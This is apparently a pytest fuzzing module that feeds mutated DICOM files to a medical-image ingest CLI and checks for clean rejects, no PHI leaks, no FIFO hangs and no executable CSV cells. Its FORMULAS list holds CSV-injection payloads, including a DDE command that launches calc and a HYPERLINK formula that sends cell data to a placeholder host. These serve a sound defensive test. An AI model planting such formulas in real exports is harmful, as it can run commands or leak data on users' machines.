"""Seeded fuzzing of `fibrosis ingest` with mutated fixture DICOMs.

A seeded generator (no extra dependency) takes small valid DICOMs in several transfer syntaxes
and mutates them at two levels: header values set to hostile ones (zero/huge sizes, NaN/inf
windows and rescales, lying transfer syntaxes, bogus LUTs, deleted Type 1 elements, excluded
terms in free text) and raw bytes (flips weighted to the header, truncation, splices, corrupted
element lengths, a lost preamble). The real CLI then ingests the whole folder, and the
invariants the README promises are checked:

* every input appears exactly once in manifest.csv or rejects.csv (also after a re-run);
* no traceback and no "unexpected" failure: each bad file is a named reject;
* the exit status is the documented one (0: something was ingested);
* no value of a free-text tag (ImageComments, SeriesDescription, StudyDescription,
  PatientName, PatientID) reaches any output file, nor a name and record number typed into a
  coded tag (Modality, BodyPartExamined, ViewPosition, PhotometricInterpretation, Manufacturer,
  ManufacturerModelName): those carry the marker FZPHQ;
* no cell of any CSV written starts like a formula a spreadsheet would run (header values such
  as ``=HYPERLINK(...)`` or ``@SUM(A1)``, file names starting with ``=``, ``@`` or holding a CR);
* a FIFO in place of any file the run reads or writes beside its inputs (the cache's manifest,
  rejects, cache.json, lock and parts; score's output and side files) is refused, never waited on.

The CLI runs in a child process under a time and address-space limit (a hang or a memory
blow-up is a failed test) with two workers, so a decoder that crashes its process is
isolated as the README describes.
"""
from __future__ import annotations

import csv
import random
import re
import struct
import warnings
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable

import pytest
from pydicom.dataset import Dataset
from pydicom.uid import JPEGBaseline8Bit, RLELossless

from helpers.dicom_factory import chest_phantom, lut_item, make_dataset, save, to_stored
from helpers.processes import deadline, run_child

# (syntax, bits stored, photometric, extra header) of the seed files
SEEDS: tuple[tuple[str, int, str, dict[str, Any]], ...] = (
    ("explicit", 12, "MONOCHROME2", {"WindowCenter": "2048", "WindowWidth": "4096"}),
    ("implicit", 12, "MONOCHROME1", {"RescaleSlope": "1", "RescaleIntercept": "-1024"}),
    ("deflate", 12, "MONOCHROME2", {"VOILUTFunction": "SIGMOID", "WindowCenter": "2000",
                                    "WindowWidth": "3000"}),
    ("rle", 12, "MONOCHROME2", {}),
    ("jpeg-baseline", 8, "MONOCHROME2", {}),
    ("j2k", 12, "MONOCHROME2", {}),
    ("acr-nema", 12, "MONOCHROME2", {}),
)


@dataclass
class Case:
    name: str
    data: bytes
    how: list[str]


# ---------------------------------------------------------------- seed files


def _seed_dataset(rng: random.Random, i: int, bits: int, photometric: str, extra: dict[str, Any]) -> Dataset:
    """A valid DX chest whose free-text tags (PatientID, PatientName, ImageComments,
    SeriesDescription, StudyDescription) each carry a marker FZ..<i>Q to look for in outputs."""
    pixels = to_stored(chest_phantom(40 + rng.randrange(24), 36 + rng.randrange(24), seed=i), bits,
                       monochrome1=photometric == "MONOCHROME1")
    uid = f"1.2.826.0.1.3680043.10.55.{i}"  # fixed UIDs: the same seed gives the same bytes
    ds = make_dataset(pixels, photometric=photometric, bits_stored=bits if bits > 8 else None,
                      patient_id=f"FZID{i:04d}Q", patient_name=f"Fuzz^FZNM{i:04d}Q",
                      study_uid=f"{uid}.1", sop_uid=f"{uid}.3", **extra)
    ds.SeriesInstanceUID = f"{uid}.2"
    ds.ImageComments = f"FZIC{i:04d}Q"
    ds.SeriesDescription = f"FZSD{i:04d}Q"
    ds.StudyDescription = f"FZST{i:04d}Q"
    return ds


def _encode(ds: Dataset, syntax: str, tmp: Path) -> bytes:
    path = save(ds, tmp, "explicit" if syntax == "acr-nema" else syntax, preamble=syntax != "acr-nema")
    return path.read_bytes()


# ---------------------------------------------------------------- header mutations

HOSTILE_NUMBERS = {"Rows": [0, 1, 2, 65535, 16385], "Columns": [0, 1, 65535, 16385],
                   "BitsAllocated": [0, 1, 7, 12, 32], "BitsStored": [0, 17, 40, 1],
                   "HighBit": [0, 40], "PixelRepresentation": [1, 2], "SamplesPerPixel": [0, 3],
                   "PlanarConfiguration": [1]}
PHI_LONG = "DOE^FZPHQ MRN 84736251"  # a name and MRN typed into a coded tag: longer than CS allows
PHI_SHORT = "FZPHQ DOE"  # a well-formed CS value that is no term of the tag
FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1)', "=cmd|' /C calc'!A0", "@SUM(A1)", "+A1-1", "-2+3", "=1+2"]
HOSTILE_TEXT = {
    "PhotometricInterpretation": ["", "RGB", "PALETTE COLOR", "MONOCHROME3", "YBR_FULL", PHI_LONG, PHI_SHORT],
    "WindowCenter": ["nan", "inf", "-inf", "1e308", "abc", ""], "WindowWidth": ["nan", "inf", "0", "-5", "1e-300"],
    "RescaleSlope": ["nan", "inf", "0", "1e308", "abc"], "RescaleIntercept": ["nan", "-inf", "1e308"],
    "VOILUTFunction": ["SIGMOID", "BOGUS", "LINEAR_EXACT", PHI_SHORT],
    "Modality": ["CT", "", "DX\\CR", PHI_LONG, PHI_SHORT, "=1+2"],
    "BodyPartExamined": ["KNEE", "", "CHEST\\KNEE", PHI_LONG, PHI_SHORT, "@SUM(A1)"],
    "ViewPosition": ["LL", "", "PA\\LL", PHI_LONG, PHI_SHORT, *FORMULAS[:2]],
    "Manufacturer": [PHI_LONG, *FORMULAS], "ManufacturerModelName": [PHI_LONG, "@CMD", "-2+3"],
    "PatientAge": ["999Y", "abc", "-01Y"], "PixelSpacing": ["0\\0", "nan\\nan", "abc"],
    "PresentationLUTShape": ["INVERSE", "BOGUS"], "NumberOfFrames": ["0", "2", "-1", "abc"],
    "PresentationIntentType": ["FOR PROCESSING"], "PatientSpeciesDescription": ["CANINE"],
}
TYPE1 = ("PixelData", "Rows", "Columns", "BitsAllocated", "PhotometricInterpretation", "SOPInstanceUID",
         "Modality", "SamplesPerPixel")


def _set_number(ds: Dataset, rng: random.Random) -> str:
    kw = rng.choice(sorted(HOSTILE_NUMBERS))
    value = rng.choice(HOSTILE_NUMBERS[kw])
    setattr(ds, kw, value)
    return f"{kw}={value}"


def _set_text(ds: Dataset, rng: random.Random) -> str:
    kw = rng.choice(sorted(HOSTILE_TEXT))
    value = rng.choice(HOSTILE_TEXT[kw])
    setattr(ds, kw, value)
    return f"{kw}={value!r}"


def _excluded_term_in_free_text(ds: Dataset, rng: random.Random) -> str:
    """A policy rule hit in a free-text tag: the reason must not quote the tag's value."""
    kw, term = rng.choice([("SeriesDescription", "KNEE"), ("ImageComments", "SKULL"),
                           ("SeriesDescription", "LATERAL"), ("ImageComments", "LAT")])
    if term in ("LATERAL", "LAT") and "ViewPosition" in ds:
        del ds.ViewPosition  # view words in free text count only without ViewPosition
    setattr(ds, kw, f"{getattr(ds, kw)} {term}")
    return f"{kw}+={term}"


def _delete(ds: Dataset, rng: random.Random) -> str:
    kw = rng.choice(TYPE1)
    if kw in ds:
        delattr(ds, kw)
    return f"del {kw}"


def _pixel_length(ds: Dataset, rng: random.Random) -> str:
    data = bytes(ds.PixelData) if "PixelData" in ds else b""
    cut = rng.choice([0, 1, len(data) // 2, len(data) - 1, len(data) + 2, 3 * len(data)])
    ds.PixelData = (data * 4)[:cut] + (b"" if len(data) % 2 == 0 or cut % 2 == 0 else b"\0")
    return f"PixelData[:{cut}]"


def _lying_syntax(ds: Dataset, rng: random.Random) -> str:
    ts = rng.choice([JPEGBaseline8Bit, RLELossless, "1.2.840.10008.1.2.4.90", "1.2.840.10008.1.2.2",
                     "1.2.3.4.5", ""])
    ds.file_meta.TransferSyntaxUID = ts
    return f"TransferSyntaxUID={ts!r}"


def _bogus_lut(ds: Dataset, rng: random.Random) -> str:
    descriptor = rng.choice([[0, 0, 0], [4096, 0, 99], [2, 0, 16], [65535, 65535, 16]])
    data = rng.choice([[], [0], [1, 2, 3], [65535] * 4])
    seq = rng.choice(["ModalityLUTSequence", "VOILUTSequence"])
    setattr(ds, seq, [lut_item(descriptor, data, LUTExplanation="x", ModalityLUTType="US")])
    return f"{seq} descriptor={descriptor} n={len(data)}"


CODED_TAGS = ("Modality", "BodyPartExamined", "ViewPosition", "PhotometricInterpretation", "Manufacturer",
              "ManufacturerModelName")


def _coded_tag_hostile(ds: Dataset, rng: random.Random) -> str:
    """A name and MRN, or a spreadsheet formula, typed into a coded tag. A bare name (PHI_SHORT)
    only into the CS tags: in Manufacturer (LO) nothing tells it from a company's name."""
    kw = rng.choice(CODED_TAGS)
    value = rng.choice([PHI_LONG, *FORMULAS] + ([PHI_SHORT] if kw not in ("Manufacturer", "ManufacturerModelName")
                                                 else []))
    setattr(ds, kw, value)
    return f"{kw}={value!r}"


HEADER_MUTATIONS: tuple[Callable[[Dataset, random.Random], str], ...] = (
    _set_number, _set_text, _set_text, _excluded_term_in_free_text, _delete, _pixel_length,
    _lying_syntax, _bogus_lut, _coded_tag_hostile)
# File names a spreadsheet would run, and a carriage return (the csv writer left it unquoted)
HOSTILE_NAMES = ("=1+2.dcm", "@SUM(A1).dcm", "+A1-1.dcm", "-2+3.dcm", "a\rb.dcm", "'quoted.dcm")


# ---------------------------------------------------------------- byte mutations


def _flip(data: bytearray, rng: random.Random) -> str:
    span = min(len(data), 600) if rng.random() < 0.6 else len(data)  # mostly the header
    for _ in range(rng.randint(1, 16)):
        data[rng.randrange(span)] = rng.randrange(256)
    return "flip"


def _truncate(data: bytearray, rng: random.Random) -> str:
    cut = rng.randrange(len(data))
    del data[cut:]
    return f"truncate@{cut}"


def _splice(data: bytearray, rng: random.Random) -> str:
    a = rng.randrange(len(data))
    b = min(len(data), a + rng.randint(1, 256))
    if rng.random() < 0.5:
        del data[a:b]
        return f"delete[{a}:{b}]"
    data[a:a] = data[a:b] * rng.randint(1, 4)
    return f"repeat[{a}:{b}]"


LONG_VRS = {b"OB", b"OD", b"OF", b"OL", b"OV", b"OW", b"SQ", b"SV", b"UC", b"UN", b"UR", b"UT", b"UV"}


def _lengths(data: bytearray, rng: random.Random) -> str:
    """Overwrite the length field after a known tag (Rows, Columns, PixelData, descriptions,
    PatientName, TransferSyntaxUID), in whichever encoding the element uses."""
    tags = [b"\x28\x00\x10\x00", b"\x28\x00\x11\x00", b"\xe0\x7f\x10\x00", b"\x08\x00\x3e\x10",
            b"\x20\x00\x00\x40", b"\x10\x00\x10\x00", b"\x02\x00\x10\x00"]
    tag = rng.choice(tags)
    at = data.find(tag)
    if at < 0 or at + 12 > len(data):
        return "lengths:none"
    value = rng.choice([0, 1, 0xFFFF, 0xFFFFFFFF, 0x7FFFFFFF, len(data) * 7])
    vr = bytes(data[at + 4:at + 6])
    if vr in LONG_VRS:  # explicit VR, long form: 2 reserved bytes, then a 4-byte length
        data[at + 8:at + 12] = struct.pack("<I", value & 0xFFFFFFFF)
    elif vr.isalpha() and vr.isupper():  # explicit VR, short form: 2-byte length
        data[at + 6:at + 8] = struct.pack("<H", value & 0xFFFF)
    else:  # implicit VR: 4-byte length right after the tag
        data[at + 4:at + 8] = struct.pack("<I", value & 0xFFFFFFFF)
    return f"length({tag.hex()})={value}"


def _no_preamble(data: bytearray, rng: random.Random) -> str:
    del data[:rng.choice([128, 132, 1])]
    return "preamble-cut"


BYTE_MUTATIONS = (_flip, _flip, _truncate, _splice, _lengths, _no_preamble)


# ---------------------------------------------------------------- generator


def generate(n: int, seed: int, tmp: Path) -> list[Case]:
    """``n`` mutated files from the seed syntaxes: the same seed gives the same bytes."""
    rng = random.Random(seed)
    cases = []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # pydicom warns about every hostile value it writes
        for i in range(n):
            syntax, bits, photometric, extra = SEEDS[i % len(SEEDS)]
            ds = _seed_dataset(rng, i, bits, photometric, extra)
            how, encoded = [syntax], _encode(ds, syntax, tmp)
            for mutate in rng.sample(HEADER_MUTATIONS, rng.choice([0, 1, 1, 2, 3])):
                trial = ds.copy()
                try:
                    step = mutate(trial, rng)
                    encoded, ds = _encode(trial, syntax, tmp), trial
                    how.append(step)
                except Exception:  # a value pydicom cannot set or encode: keep the file as it was
                    pass
            data = bytearray(encoded)
            if rng.random() < 0.6 or len(how) == 1:
                for mutate in rng.sample(BYTE_MUTATIONS, rng.randint(1, 2)):
                    if data:
                        how.append(mutate(data, rng))
            cases.append(Case(f"case{i:05d}.dcm", bytes(data), how))
    return cases


# ---------------------------------------------------------------- the run


@dataclass
class FuzzRun:
    inputs: Path
    cache: Path
    cases: list[Case]
    runs: list[Any]  # CompletedProcess of the first run and of the re-run
    listed: list[list[str]]  # paths in manifest.csv + rejects.csv after each run


def _read(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


pytestmark = pytest.mark.fuzz  # CI runs every tier; `-m "not fuzz"` leaves it out of an inner loop


@pytest.fixture(scope="module", params=[pytest.param(350, id="350"),
                                        pytest.param(3000, id="3000", marks=pytest.mark.slow)])
def fuzz(request, tmp_path_factory) -> FuzzRun:
    root = tmp_path_factory.mktemp(f"fuzz{request.param}")
    inputs = root / "in"
    inputs.mkdir()
    cases = generate(request.param, seed=20261130 + request.param, tmp=root / "scratch.dcm")
    for case in cases:
        (inputs / case.name).write_bytes(case.data)
    # one untouched file, so "something was ingested" (exit 0) is the documented outcome
    save(_seed_dataset(random.Random(0), 99999, 12, "MONOCHROME2", {}), inputs / "control.dcm")
    for k, name in enumerate(HOSTILE_NAMES):  # valid files (each its own image) under hostile names
        save(_seed_dataset(random.Random(k + 1), 99990 + k, 12, "MONOCHROME2", {}), inputs / name)
    cache = root / "cache"
    args = ["-m", "fibrosis.cli.main", "ingest", str(inputs), "--cache", str(cache), "--workers", "2",
            "--no-progress", "--set", "ingest.image_size=32", "--set", "ingest.min_side=1",
            "--set", "ingest.shard_size=128"]
    timeout = 60 if request.param < 1000 else 600
    runs, listed = [], []
    for _ in range(2):  # a first run, then a re-run (which re-tries every reject)
        runs.append(run_child(args, timeout=timeout, mem_gb=6))
        listed.append([r["path"] for name in ("manifest.csv", "rejects.csv") if (cache / name).exists()
                       for r in _read(cache / name)])
    return FuzzRun(inputs, cache, cases, runs, listed)


def test_fuzz_exit_status_and_no_traceback(fuzz):
    for res in fuzz.runs:
        assert res.returncode == 0, res.stderr[-3000:]  # control.dcm was ingested; no usage error
        assert "Traceback" not in res.stderr, res.stderr[-5000:]
        assert "unexpected failure" not in res.stderr


def test_fuzz_every_input_exactly_once(fuzz):
    expected = sorted(str(p.resolve()) for p in fuzz.inputs.iterdir())
    for listed in fuzz.listed:  # after the first run and after the re-run
        assert sorted(listed) == expected  # each input once, none twice, nothing else
    rows, rejects = _read(fuzz.cache / "manifest.csv"), _read(fuzz.cache / "rejects.csv")
    assert any(Path(r["path"]).name == "control.dcm" for r in rows)
    how = {c.name: c.how for c in fuzz.cases}  # the mutations, to reproduce a failure
    unexpected = [(Path(r["path"]).name, r["reason"], how.get(Path(r["path"]).name))
                  for r in rejects if r["reason"].startswith("unexpected")]
    assert not unexpected, unexpected[:10]  # each bad file is refused with a reason, not a catch-all
    assert {r["kind"] for r in rejects} <= {"error", "excluded", "duplicate"}


def test_fuzz_no_free_text_in_any_output(fuzz):
    # the markers every free-text value of every case carries (_seed_dataset), control.dcm's too
    marker = re.compile(rb"FZ(?:ID|NM|IC|SD|ST)[0-9]{4,5}Q|FZPHQ|84736251")
    leaks = [(f.name, m.decode()) for f in sorted(p for p in fuzz.cache.rglob("*") if p.is_file())
             for m in marker.findall(f.read_bytes())]
    assert not leaks, leaks[:20]


def test_fuzz_no_cell_a_spreadsheet_would_run(fuzz):
    from fibrosis.io import FORMULA_START, read_csv

    number = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
    for f in sorted(fuzz.cache.rglob("*.csv")):
        with open(f, newline="", encoding="utf-8") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        runs = [c for c in cells if c.startswith(FORMULA_START) and not number.fullmatch(c)]
        assert not runs, (f.name, runs[:5])
    # read back through our own reader, the values are what the files hold: the hostile names are there
    listed = {Path(r["path"]).name for name in ("manifest.csv", "rejects.csv") for r in read_csv(fuzz.cache / name)}
    assert set(HOSTILE_NAMES) <= listed


# The files a run reads or writes beside its inputs, and what it answers when one is a FIFO.
CACHE_SIDE_FILES = ("manifest.csv", "rejects.csv", "cache.json", ".ingest.lock", "parts/shard-000000.csv")


# The FIFO checks ask how a run meets one odd file, not how it meets many: the 350-case run does.
@pytest.mark.parametrize("fuzz", [350], indirect=True, ids=["350"])
def test_fuzz_a_fifo_among_the_cache_files_is_refused(fuzz, tmp_path):
    import os
    import shutil

    for name in CACHE_SIDE_FILES:
        cache = tmp_path / name.replace("/", "_")
        shutil.copytree(fuzz.cache, cache)
        (cache / name).unlink()
        os.mkfifo(cache / name)
        res = run_child(["-m", "fibrosis.cli.main", "ingest", str(fuzz.inputs), "--cache", str(cache), "--workers", "2",
                         "--no-progress", "--set", "ingest.image_size=32", "--set", "ingest.min_side=1",
                         "--set", "ingest.shard_size=128"], timeout=90, mem_gb=6)  # a hang is a TimeoutExpired
        assert res.returncode == 2 and "Traceback" not in res.stderr, (name, res.stderr[-2000:])
        assert f"{name}: not a regular file: a FIFO (named pipe)" in res.stderr, (name, res.stderr[-2000:])


@pytest.mark.parametrize("fuzz", [350], indirect=True, ids=["350"])
def test_fuzz_a_fifo_among_the_score_files_is_refused(fuzz, tmp_path, monkeypatch):
    import os

    from fibrosis.config import IngestConfig
    from fibrosis.score.run import score
    from helpers.checkpoints import make_checkpoint

    monkeypatch.setenv("FIBROSIS_SALT", "fuzz")
    ckpt = make_checkpoint(tmp_path / "run" / "best.pt", IngestConfig(image_size=32, min_side=1))
    listing = tmp_path / "some.csv"
    listing.write_text("path\n" + "".join(f"{fuzz.inputs / c.name}\n" for c in fuzz.cases[:40]))
    for side in ("scores.csv", "scores.meta.csv", "scores.studies.csv"):
        out = tmp_path / side.replace(".", "_") / "scores.csv"
        out.parent.mkdir()
        os.mkfifo(out.parent / side)
        with deadline(60, f"score blocked on the FIFO at {side}"):
            with pytest.raises(ValueError, match=rf"{side}: not a regular file: a FIFO"):
                score(ckpt.parent, listing, out, device="cpu", progress=False, workers=1)


def test_generator_is_seeded_and_mutates_every_seed_syntax(tmp_path):
    a = generate(30, seed=7, tmp=tmp_path / "a.dcm")
    b = generate(30, seed=7, tmp=tmp_path / "b.dcm")
    assert [c.data for c in a] == [c.data for c in b]  # reproducible from the seed
    assert all(len(c.how) >= 2 for c in a)  # every case got at least one mutation
    assert {c.how[0] for c in a} == {s[0] for s in SEEDS}
    assert len({c.data for c in a}) == len(a)  # 30 different files
